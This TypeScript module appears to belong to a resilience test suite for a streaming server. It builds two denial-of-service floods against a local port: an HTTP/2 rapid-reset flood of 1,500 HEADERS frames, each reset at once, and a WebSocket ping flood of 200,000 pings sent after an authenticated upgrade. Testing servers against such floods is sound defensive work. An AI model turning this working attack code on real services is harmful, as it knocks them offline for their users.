/** Floods of small frames, over connections of their own. */

import { connect } from 'node:net';
import { call, type Shot, type Target } from './loop-attack.ts';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** `:method GET`, `:scheme http`, `:path /` and an authority, all of it in the static table but the last. */
const GET = Buffer.from([0x82, 0x86, 0x84, 0x41, 0x01, 0x78]);
/** The library below Node ends a session after a thousand. */
const RESETS = 1_500;
const PINGS = 200_000;

/** Requests without a token that are reset at once, as fast as the connection takes them. */
export function resetFlood(port: number): Shot {
  const frames = [PREFACE, frame(4, 0, 0)];
  for (let i = 0; i < RESETS; i++) {
    const stream = 2 * i + 1;
    frames.push(frame(1, 5, stream, GET), frame(3, 0, stream, Buffer.of(0, 0, 0, 8)));
  }
  const bytes = Buffer.concat(frames);
  return () => flood(port, bytes);
}

/** The pings of a reader. */
export async function pingFlood(target: Target): Promise<Shot> {
  await call(target, {
    method: 'POST',
    path: '/v1/streams/pinged/records',
    headers: { 's2-basin': 'telemetry', 'content-type': 'application/json' },
    body: '{"records":[{"body":"x"}]}',
  });
  const pings = Buffer.alloc(PINGS * 6, Buffer.of(0x89, 0x80, 0, 0, 0, 0));
  return () => flood(target.port, upgrade(target), pings);
}

function upgrade({ token }: Target): Buffer {
  return Buffer.from(
    [
      'GET /v1/streams/pinged/records?seq_num=0 HTTP/1.1',
      'Host: x',
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
      'S2-Basin: telemetry',
      `Authorization: Bearer ${token}`,
      '',
      '',
    ].join('\r\n'),
  );
}

function frame(type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Sends the pieces, each after the server said something; resolves when they are read or the connection is cut. */
async function flood(port: number, ...pieces: readonly Buffer[]): Promise<void> {
  const socket = connect(port, '127.0.0.1');
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  socket.on('error', () => {});
  for (const piece of pieces) {
    const answered = new Promise<void>((resolve) => socket.once('data', () => resolve()));
    const taken = new Promise<void>((resolve) => socket.write(piece, () => resolve()));
    await Promise.race([closed, Promise.all([taken, answered])]);
  }
  socket.destroy();
  await closed;
}
